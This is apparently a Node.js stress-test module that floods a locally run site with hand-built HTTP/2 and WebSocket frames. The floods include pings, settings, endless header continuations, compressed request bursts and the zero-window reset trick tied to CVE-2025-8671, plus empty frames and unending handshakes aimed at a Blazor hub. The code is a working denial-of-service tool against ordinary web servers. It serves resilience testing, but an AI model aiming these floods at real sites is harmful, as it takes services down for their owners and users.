// Floods of frames: of HTTP/2 that no request needs, and of WebSockets below the hub's own messages. Each connection writes as
// fast as the site reads.

import { connect } from 'node:net';
import { connect as connectSecurely } from 'node:tls';
import { setTimeout as pause } from 'node:timers/promises';
import { small } from '../bench/lists.mjs';

const frame = (type, flags, stream, ...content) => Buffer.from([0, content.length >> 8, content.length & 255, type, flags, stream >> 24 & 127, stream >> 16 & 255, stream >> 8 & 255, stream & 255, ...content]);
const settings = frame(4, 0, 0);
const ping = frame(6, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings]);
const masked = (opcode, ...content) => Buffer.from([opcode, 0x80 | content.length, 0, 0, 0, 0, ...content]);
const handshake = masked(0x81, ...Buffer.from('{"protocol":"blazorpack","version":1}\x1e'));
const upgrade = port => `GET /_blazor HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\nSec-WebSocket-Key: ${'A'.repeat(22)}==\r\n\r\n`;
const thousand = part => () => Buffer.concat(Array(1000).fill(part));

// What a connection begins with, and what it sends from then on.
const kinds = {
  'HTTP/2 pings': { begin: preface, next: () => thousand(ping) },
  'HTTP/2 settings': { begin: preface, next: () => thousand(settings) },
  // Also priorities, a window that grows by one byte, and a type that is not known.
  'HTTP/2 frames of every kind': { begin: preface, next: () => thousand(Buffer.concat([ping, settings, frame(2, 0, 1, 0, 0, 0, 3, 1), frame(8, 0, 0, 0, 0, 0, 1), frame(99, 0, 0)])) },
  // Headers, and their continuation in frames without content.
  'HTTP/2 headers without end': { begin: Buffer.concat([preface, frame(1, 1, 1, 0x82)]), next: () => thousand(frame(9, 0, 1)) },
  // Method, scheme, path and host are in the table that HTTP/2 keeps of earlier requests.
  'HTTP/2 requests of 13 bytes': { begin: preface, next: () => requests('/fr/guides/facebook') },
  // A window that grows by nothing is an error for which the site has to reset the request (CVE-2025-8671).
  'HTTP/2 requests that the site resets': { begin: preface, next: () => requests(`/fr/ma-liste?l=${small}`, stream => frame(8, 0, stream, 0, 0, 0, 0)) },
  'WebSocket pings': { begin: upgrade, next: () => thousand(masked(0x89)) },
  'WebSocket pings after the handshake': { begin: port => Buffer.concat([Buffer.from(upgrade(port)), handshake]), next: () => thousand(masked(0x89)) },
  'WebSocket frames without content': { begin: port => Buffer.concat([Buffer.from(upgrade(port)), masked(0x02)]), next: () => thousand(masked(0x00)) },
  'hub handshakes without end': { begin: upgrade, next: () => thousand(masked(0x81, 32)) },
};

function requests(path, after = () => Buffer.alloc(0)) {
  const literal = (index, text) => [0x40 | index, text.length, ...Buffer.from(text)];
  const first = [0x82, 0x86, ...literal(4, path), ...literal(1, 'localhost')];
  let stream = -1;
  return () => Buffer.concat(Array.from({ length: 1000 }, () => {
    stream += 2;
    return Buffer.concat([frame(1, 5, stream, ...stream === 1 ? first : [0x82, 0x86, 0xbf, 0xbe]), after(stream)]);
  }));
}

/** Counts what was opened and closed by the site; resolves to the frames that were written. */
export async function flood(kind, { port, end, many, count, isRead = true, isSecure = false }) {
  let blocks = 0;
  await Promise.all(Array.from({ length: many }, async () => {
    while (performance.now() < end) {
      await connection();
      await pause(200);
    }
  }));
  return blocks * 1000;

  function connection() {
    const { begin, next } = kinds[kind];
    const block = next();
    return new Promise(resolve => {
      const to = { port, host: '127.0.0.1' };
      const socket = isSecure ? connectSecurely({ ...to, ALPNProtocols: ['h2'], rejectUnauthorized: false }) : connect(to);
      const timer = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()));
      const more = () => {
        blocks++;
        socket.write(block(), error => error || performance.now() > end ? socket.destroy() : more());
      };
      socket.on(isSecure ? 'secureConnect' : 'connect', () => {
        count('opened');
        socket.write(typeof begin === 'function' ? begin(port) : begin);
        more();
      });
      if (isRead) {
        socket.resume();
      }
      socket.on('error', () => {});
      socket.on('close', () => {
        clearTimeout(timer);
        if (performance.now() < end) {
          count('closed by the site');
        }
        resolve();
      });
    });
  }
}
